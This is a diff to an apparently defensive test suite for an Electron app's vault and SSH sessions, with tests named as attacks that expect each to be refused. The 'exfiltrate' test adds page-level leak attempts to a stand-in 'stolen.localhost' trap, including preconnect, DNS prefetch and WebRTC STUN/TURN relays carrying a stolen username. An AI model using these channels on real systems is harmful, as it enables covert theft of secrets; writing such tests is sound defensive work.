@@ -67,7 +67,7 @@ function expectNoSecret(answers: readonly unknown[]): void {
   }
 }
 
-const work = () => ({ type: 'asset', space: stored.space, id: stored.record });
+const work = () => stored.work;
 const reference = (more: object = {}) => ({
   record: stored.record,
   username: 'ops',
@@ -134,6 +134,11 @@ attack('use-for-foreign-work', async row => {
       expectRefused(row, [await script.desk(name, input)]);
     }
   }
+  for (const other of [{ id: randomUUID() }, { id: stored.record }, { type: 'asset' }]) {
+    for (const [name, input] of uses(reference({ work: { ...work(), ...other } }))) {
+      expectRefused(row, [await script.desk(name, input)]);
+    }
+  }
 });
 
 attack('use-without-reason', async row => {
@@ -197,11 +202,9 @@ attack('log-in-elsewhere', async row => {
       credential: reference({ logIn: 'password' }),
     };
     await script.session(id, 'open', { target, size: { cols: 80, rows: 24 } });
-    await expect.poll(async () => (await script.sessionState(id))?.state).toBe('host-key-unknown');
-    const accepting = { fingerprint: trap.hostFingerprint, accept: true };
-    await script.session(id, 'decideHostKey', accepting);
     expectRefused(row, [await endOf(id)]);
-    expect(trap.heard().join()).not.toContain(SECRET);
+    // Not even reached: the user name alone would carry off what the script has read.
+    expect(trap.connections()).toBe(0);
   } finally {
     await trap.stop();
   }
@@ -252,8 +255,11 @@ attack('rotate-without-consent', row =>
 attack('flood-of-windows', async row => {
   const opened: Page[] = [];
   person.app.electron.on('window', window => opened.push(window));
-  const asked = Array.from({ length: 12 }, () =>
-    script.desk('rotateKeys', { space: stored.space }),
+  // The vault asks for the one, main for the other.
+  const asked = Array.from({ length: 24 }, (_, i) =>
+    i < 12
+      ? script.desk('rotateKeys', { space: stored.space })
+      : script.openSession(randomUUID(), 'local'),
   );
   const answers: Answer[] = [];
   for (const answer of asked) void answer.then(each => answers.push(each));
@@ -443,9 +449,26 @@ attack('exfiltrate', async row => {
     add('script', { src: `${to}/script.js` });
     add('link', { rel: 'stylesheet', href: `${to}/style.css` });
     add('link', { rel: 'prefetch', href: `${to}/prefetch` });
+    add('link', { rel: 'preconnect', href: to });
+    add('link', { rel: 'dns-prefetch', href: to.replace('127.0.0.1', 'stolen.localhost') });
     add('iframe', { src: `${to}/frame` });
     add('object', { data: `${to}/object` });
     add('video', { src: `${to}/video` });
+    // No policy of a page speaks of these: a call to a relay, whose user name is what was stolen.
+    const { port } = new URL(to);
+    const relays = ['127.0.0.1', 'stolen.localhost'].flatMap(host => [
+      `stun:${host}:${port}`,
+      `turn:${host}:${port}?transport=udp`,
+      `turn:${host}:${port}?transport=tcp`,
+    ]);
+    const urls = { username: 'stolen', credential: 'x' };
+    const call = new RTCPeerConnection({
+      iceServers: relays.map(each => ({ ...urls, urls: each })),
+    });
+    call.createDataChannel('stolen');
+    await call.setLocalDescription(await call.createOffer());
+    await new Promise(resolve => setTimeout(resolve, 1_500));
+    call.close();
     const form = Object.assign(document.createElement('form'), { action: to, method: 'post' });
     document.body.append(form);
     form.submit();
